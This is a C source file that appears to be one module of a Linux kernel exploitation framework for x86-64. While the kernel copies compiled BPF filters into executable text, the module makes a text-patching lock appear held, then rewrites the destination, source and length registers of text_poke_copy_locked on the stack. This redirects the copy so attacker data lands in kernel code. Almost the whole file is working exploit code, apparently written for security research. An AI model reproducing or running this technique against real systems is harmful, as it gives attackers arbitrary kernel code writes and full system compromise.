// SPDX-License-Identifier: GPL-2.0-only
/*
 * The kernel copies compiled filters to text, and asks where to. A filter of more
 * than two pages is copied in parts. While one is copied the CPU waits for a lock that
 * is made to look held, that of the table by which text is patched; and where the
 * next part goes, where it comes from and how long it is are changed on the stack.
 */
#include <string.h>
#include <unistd.h>

#include "attack.h"
#include "held.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define PACKS		"pack_list"
#define PACK_POINTER	16
#define PACK_SIZE	(2UL << 20)
#define CHUNK		64
#define CALLEE_SAVED	6	/* below the way back: registers of the caller */
#define LOOP		"text_poke_copy_locked"
#define LENGTH		0x100	/* at most */
#define PAUSE		1000	/* microseconds */
#define PATIENCE	2000	/* pauses */
#define TRIES		3

/* What is to be copied instead. */
struct copy {
	uint64_t pack, to, from;
	size_t len;
};

static struct copy copy;
static struct held_lock lock;

static int find_start(const uint64_t *words, int from, int to)
{
	for (; from < to; from++)
		if (words[from] - copy.pack < PACK_SIZE && !(words[from] % CHUNK))
			return from;
	return to;
}

static int find_length(const uint64_t *words, int from, int to, uint64_t length)
{
	for (; from < to && words[from] != length; from++)
		;
	return from;
}

/* The buffer begins with its length, which is longer than what is copied at once. */
static int find_source(const uint64_t *words, int first, int to, int start, int *length)
{
	uint64_t size;
	int from;

	for (from = first; from < to; from++) {
		if (from == start || !is_kernel_address(words[from]))
			continue;
		size = (uint32_t)kread64(words[from]);
		*length = find_length(words, first, to, size);
		if (size > 2 * PAGE_SIZE && *length < to)
			return from;
	}
	return to;
}

static void set_word(uint64_t addr, int word, uint64_t value)
{
	kwrite64(addr + word * sizeof(value), value);
}

/* The registers of the loop, which the function that it calls has pushed. */
static bool change_loop(const struct held_change *change, uint64_t addr, const uint64_t *words)
{
	int start = find_start(words, -CALLEE_SAVED, 0), length, source;
	size_t part;

	(void)change;
	if (!start)
		return false;
	source = find_source(words, -CALLEE_SAVED, 0, start, &length);
	if (!source)
		return false;
	part = 2 * PAGE_SIZE - words[start] % PAGE_SIZE;
	set_word(addr, start, copy.to - part);
	set_word(addr, source, copy.from - part);
	set_word(addr, length, copy.len + part);
	return true;
}

static bool wait_for_copy(void)
{
	int i;

	for (i = 0; i < PATIENCE && !held_is_done(); i++)
		usleep(PAUSE);
	return held_is_done();
}

static bool is_copied(uint64_t addr, const void *data, size_t len)
{
	unsigned char now[64];

	return !kread(addr, now, len) && !memcmp(now, data, len);
}

static bool copy_to_text(uint64_t addr, const void *data, size_t len)
{
	const struct held_change loop = { LOOP, LENGTH, change_loop, held_is_over, NULL };
	int i;

	copy.to = addr;
	copy.len = len;
	if (kwrite(copy.from, data, len))
		return false;
	for (i = 0; i < TRIES && !is_copied(addr, data, len); i++)
		if (!held_act(&lock, &loop) || !wait_for_copy())
			break;
	return is_copied(addr, data, len);
}

enum outcome copy_held(void)
{
	uint64_t packs = ksymbol(PACKS);
	struct kernel_page page;
	enum outcome outcome;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	held_copy_filter();
	held_start(held_long_filter);
	if (!packs || kread64(packs) == packs || !kernel_page(&page))
		return broken("no pack of compiled filters, or no page");
	copy.pack = kread64(kread64(packs) + PACK_POINTER);
	copy.from = page.addr;
	lock = held_table();
	outcome = lock.addr ? patch_text_by(copy_to_text) : lost("there is no such lock");
	held_stop();
	return outcome;
}
#else
enum outcome copy_held(void)
{
	return skipped("x86-64 only");
}
#endif
